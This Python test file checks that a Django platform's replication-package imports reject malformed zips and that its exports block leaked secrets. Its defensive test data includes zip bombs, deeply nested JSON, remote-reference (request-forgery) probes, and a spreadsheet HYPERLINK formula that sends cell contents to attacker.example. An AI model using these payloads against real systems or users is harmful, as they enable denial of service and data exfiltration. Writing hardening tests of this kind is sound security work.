"""Replication packages read offline and refused with a 4xx naming the problem (issue 45,
findings 5 and 6).

The probe: a bad CRC, a file/folder name clash inside the zip, ``study.json`` nested
100,000 deep, ``public_cap: 10**30`` and a NUL in ``participants.csv`` each answered 500;
a ``schema``, ``dialect`` or ``profile`` URL in ``datapackage.json`` made the server send
a GET to that address (and with a remote ``profile`` the package imported).
"""

from __future__ import annotations

import json
import os
import tempfile
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from benchmarks import uploads
from benchmarks.models import ImportJob
from benchmarks.services import import_job_run
from demo.studies import DYNTOM_STUDY
from modeling.models import Backend, Prediction, Run
from reports.models import ReplicationImport
from reports.replication.exporting import ExportRefused, package_export
from reports.replication.importing import UNPACK_PREFIX, PackageError, package_import
from reports.replication.upload import PACKAGE_FORMAT
from studies.models import Study
from tests.package_edits import package_rewrite
from tests.studies.test_webhooks import receiver  # noqa: F401

pytestmark = [pytest.mark.django_db, pytest.mark.module_rows("demo")]


@pytest.fixture
def good(tmp_path, module_rows) -> Path:
    study = Study.objects.get(name=DYNTOM_STUDY)
    run = Run.objects.filter(benchmark=study.benchmark).order_by("pk").first()
    path = tmp_path / "good.zip"
    package_export(study, path, runs=[run.pk])
    return path


def _rewrite(good: Path, out: Path, change: Callable[[str, bytes], bytes | None]) -> Path:
    """A copy of the package with each member's bytes passed through ``change``
    (``None`` drops the member), its hashes sealed again."""
    return package_rewrite(good, out, change)


def _descriptor(good: Path, out: Path, edit: Callable[[dict], None]) -> Path:
    def change(name: str, data: bytes) -> bytes:
        if name != "datapackage.json":
            return data
        descriptor = json.loads(data)
        edit(descriptor)
        return json.dumps(descriptor).encode()

    return _rewrite(good, out, change)


def _refused(path: Path, *fragments: str) -> str:
    with pytest.raises(PackageError) as refused:
        package_import(path)
    for fragment in fragments:
        assert fragment in str(refused.value), (fragment, str(refused.value))
    assert not ReplicationImport.objects.exists()
    return str(refused.value)


def test_a_bad_crc_names_the_member(good, tmp_path):
    broken = tmp_path / "crc.zip"
    raw = bytearray(good.read_bytes())
    with zipfile.ZipFile(good) as archive:
        member = archive.getinfo("manifest.json")
    # Flip one byte of the stored data (after the local header and the name).
    start = member.header_offset + 30 + len(member.filename.encode()) + len(member.extra)
    raw[start + 5] ^= 0xFF
    broken.write_bytes(bytes(raw))

    _refused(broken, "manifest.json")


def test_a_file_and_a_folder_of_the_same_name_are_refused(good, tmp_path):
    def clash(name: str, data: bytes) -> bytes:
        return data

    clashing = _rewrite(good, tmp_path / "clash.zip", clash)
    with zipfile.ZipFile(clashing, "a") as archive:
        archive.writestr("data/choices.csv/inner.txt", b"x")

    _refused(clashing, "data/choices.csv")


def test_json_nested_100000_deep_is_refused_naming_the_file(good, tmp_path):
    deep = ("[" * 100_000 + "]" * 100_000).encode()
    nested = _rewrite(good, tmp_path / "deep.zip", lambda n, d: deep if n == "study.json" else d)
    _refused(nested, "study.json", "deep")


def test_a_number_too_large_for_the_database_is_refused_naming_the_field(good, tmp_path):
    def huge(name: str, data: bytes) -> bytes:
        if name != "study.json":
            return data
        study = json.loads(data)
        study["public_cap"] = 10**30
        return json.dumps(study).encode()

    _refused(_rewrite(good, tmp_path / "huge.zip", huge), "public_cap")


def test_a_nul_in_a_table_is_refused_naming_the_file(good, tmp_path):
    def nul(name: str, data: bytes) -> bytes:
        if name != "data/participants.csv":
            return data
        header, first, *rest = data.split(b"\n")
        return b"\n".join([header, first.replace(b",", b"\x00,", 1), *rest])

    _refused(_rewrite(good, tmp_path / "nul.zip", nul), "participants.csv")


@pytest.mark.parametrize(
    "edit, named",
    [
        (lambda d: d["resources"][0].__setitem__("schema", "{url}/schema.json"), "schema"),
        (lambda d: d["resources"][0].__setitem__("dialect", "{url}/dialect.json"), "dialect"),
        (lambda d: d.__setitem__("profile", "{url}/profile.json"), "profile"),
        (lambda d: d.__setitem__("$schema", "{url}/profile.json"), "$schema"),
        (lambda d: d["resources"][0].__setitem__("profile", "{url}/r.json"), "profile"),
    ],
    ids=["schema", "dialect", "profile", "$schema", "resource-profile"],
)
def test_a_remote_reference_is_refused_and_nothing_is_fetched(
    good,
    tmp_path,
    receiver,  # noqa: F811
    edit,
    named,
):
    base = receiver.url.rsplit("/", 1)[0]

    def remote(descriptor: dict) -> None:
        edit(descriptor)
        for owner in (descriptor, descriptor["resources"][0]):
            for key, value in owner.items():
                if isinstance(value, str) and "{url}" in value:
                    owner[key] = value.replace("{url}", base)

    message = _refused(_descriptor(good, tmp_path / "remote.zip", remote), named, "offline")
    assert base in message
    assert receiver.requests == []  # the receiver answers POSTs; a GET would be counted


def _upload(client, researcher, path: Path, **data) -> ImportJob:
    """Upload ``path`` on the packages page: queued for a worker, its job page next."""
    client.force_login(researcher)
    response = client.post(
        reverse("reports:package-upload"),
        {"package": SimpleUploadedFile(path.name, path.read_bytes()), **data},
    )
    job = ImportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("benchmarks:import-job", args=[job.pk])
    assert job.status == ImportJob.Status.QUEUED and job.format_name == PACKAGE_FORMAT
    assert not ReplicationImport.objects.exists()  # nothing done in the request
    return job


def test_an_uploaded_package_is_refused_by_its_job_naming_the_member(
    client, researcher, good, tmp_path
):
    deep = ("{" + '"a":' * 1) + "[" * 50_000 + "]" * 50_000 + "}"
    nested = _rewrite(
        good, tmp_path / "deep.zip", lambda n, d: deep.encode() if n == "study.json" else d
    )
    job = _upload(client, researcher, nested)
    assert import_job_run(job_id=job.pk) == ImportJob.Status.FAILED
    job.refresh_from_db()
    assert "study.json" in job.error and "nested too deep" in job.error
    assert not uploads.upload_folder(job.upload).exists()
    page = client.get(reverse("benchmarks:import-job", args=[job.pk]))
    assert page.status_code == 200 and "study.json" in page.content.decode()
    assert not ReplicationImport.objects.exists()


def test_an_uploaded_package_imports_on_its_job_with_progress_and_a_link(client, researcher, good):
    job = _upload(client, researcher, good, strict="on")
    assert job.options == {"strict": "yes"}
    assert import_job_run(job_id=job.pk) == ImportJob.Status.SUCCEEDED
    job.refresh_from_db()
    record = ReplicationImport.objects.get()
    assert record.imported_by == researcher
    counts = {row["kind"]: row["created"] for row in job.report["counts"]}
    assert counts["Study"] == 1 and counts["Prediction"] > 0
    assert job.progress_total > 0 and job.progress_done == job.progress_total
    study_url = reverse("studies:detail", args=[record.study_id])
    assert {"label": f"Study #{record.study_id}", "url": study_url} in job.report["links"]
    page = client.get(reverse("benchmarks:import-job", args=[job.pk])).content.decode()
    assert f'href="{study_url}"' in page
    assert not uploads.upload_folder(job.upload).exists()


def test_a_secret_option_value_in_a_stored_reply_refuses_the_export(tmp_path):
    """Finding 4: data/calls.csv held "Bearer sk-OPT-…", a secret header value that had
    come back in a reply (stored before replies were masked)."""
    study = Study.objects.get(name=DYNTOM_STUDY)
    run = Run.objects.filter(benchmark=study.benchmark).order_by("pk").first()
    backend = Backend.objects.create(
        name="proxied",
        kind=Backend.Kind.OPENAI,
        base_url="https://llm.lab.example/v1",
        options={"headers": {"Authorization": "Bearer sk-OPT-0123456789abcdef"}},
    )
    Run.objects.filter(pk=run.pk).update(backend=backend)
    # Stored before replies were masked (a demo run is imported, so its replies are
    # predictions without calls).
    first = Prediction.objects.filter(run=run).order_by("pk").first()
    Prediction.objects.filter(pk=first.pk).update(
        raw_output="the proxy saw sk-OPT-0123456789abcdef"
    )

    with pytest.raises(ExportRefused, match=r"data/predictions\.csv holds a secret backend option"):
        package_export(study, tmp_path / "out.zip", runs=[run.pk])
    assert not (tmp_path / "out.zip").exists()


def test_package_csvs_are_verbatim_data_and_the_readme_says_so(tmp_path):
    """Finding 8, decided one way: package CSVs keep every cell as it was (so a round trip
    is exact) and the README warns spreadsheet users; other CSV downloads stay escaped."""
    study = Study.objects.get(name=DYNTOM_STUDY)
    run = Run.objects.filter(benchmark=study.benchmark).order_by("pk").first()
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    first = Prediction.objects.filter(run=run).order_by("pk").first()
    Prediction.objects.filter(pk=first.pk).update(raw_output=formula)
    path = tmp_path / "out.zip"
    package_export(study, path, runs=[run.pk])

    with zipfile.ZipFile(path) as archive:
        readme = archive.read("README.md").decode()
        tables = {n: archive.read(n).decode() for n in archive.namelist() if n.endswith(".csv")}
    assert "not formula-escaped" in readme and "every column set to Text" in readme
    assert any(formula.replace('"', '""') in text for text in tables.values())
    assert not any("'" + formula.replace('"', '""') in text for text in tables.values())


def test_a_package_unpacking_to_500_mb_is_refused_at_once_leaving_no_temp_files(
    client, researcher, good, tmp_path, monkeypatch
):
    """Finding 7: a 2.4 MB upload that unpacked to 600 MB held a web thread for more than
    5 minutes and left 601 MB in the temp folder."""
    temp = tmp_path / "tmp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    bomb = tmp_path / "bomb.zip"
    with (
        zipfile.ZipFile(good) as source,
        zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as target,
    ):
        for name in source.namelist():
            target.writestr(name, source.read(name))
        with target.open("data/padding.csv", "w", force_zip64=True) as padding:
            block = b"0" * (1024 * 1024)
            for _ in range(500):
                padding.write(block)
    assert bomb.stat().st_size < 5 * 1024**2

    # Refused from the zip's directory, before a byte is unpacked (so at once: no timed
    # assertion, the empty temp folder shows nothing was written).
    _refused(bomb, "bytes unpacked, over the 268,435,456-byte limit")
    assert list(temp.iterdir()) == []
    # Uploaded, it is refused in the request from the same directory: no job is queued
    # and the stored upload is deleted again.
    client.force_login(researcher)
    response = client.post(
        reverse("reports:package-upload"),
        {"package": SimpleUploadedFile("bomb.zip", bomb.read_bytes())},
    )
    assert response.status_code == 400
    assert "over the 268,435,456-byte limit" in response.content.decode()
    assert not ImportJob.objects.exists()
    assert not any(uploads.uploads_root().iterdir())
    assert list(temp.iterdir()) == []


def test_leftovers_of_killed_imports_go_when_a_worker_starts(tmp_path, monkeypatch, settings):
    """A killed command left its unpacked package in the temp folder, a killed upload its
    folder: a starting worker removes what is older than TOMLAB_UPLOAD_TTL_S."""
    from config.celery import _leftovers_purge

    temp = tmp_path / "tmp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    old, young = temp / f"{UNPACK_PREFIX}old", temp / f"{UNPACK_PREFIX}young"
    for folder in (old, young):
        (folder / "data").mkdir(parents=True)
        (folder / "data" / "big.csv").write_bytes(b"x" * 1000)
    os.utime(old, (time.time() - 7200, time.time() - 7200))
    settings.TOMLAB_UPLOAD_TTL_S = 3600
    _leftovers_purge(settings.TOMLAB_UPLOAD_TTL_S)
    assert sorted(p.name for p in temp.iterdir()) == [young.name]


def test_an_import_over_its_time_limit_is_stopped_writing_nothing(good, settings):
    settings.REPLICATION_MAX_SECONDS = 0
    _refused(good, "good.zip: the import took over 0 s (REPLICATION_MAX_SECONDS)")


def test_a_redelivered_import_unpacks_over_what_its_killed_try_left(good, tmp_path):
    into = tmp_path / "unpacked"
    (into / "data").mkdir(parents=True)
    (into / "data" / "half-written.csv").write_text("x")
    assert package_import(good, into=into).created
    assert not into.exists()


def test_a_zip_bomb_member_is_refused_by_its_ratio(good, tmp_path, settings):
    settings.REPLICATION_MAX_BYTES = 10 * 1024**3  # the ratio, not the total, refuses it
    bomb = tmp_path / "ratio.zip"
    with (
        zipfile.ZipFile(good) as source,
        zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            target.writestr(name, source.read(name))
        target.writestr("data/padding.csv", b"0" * (20 * 1024**2))

    _refused(bomb, "data/padding.csv", "zip bomb")
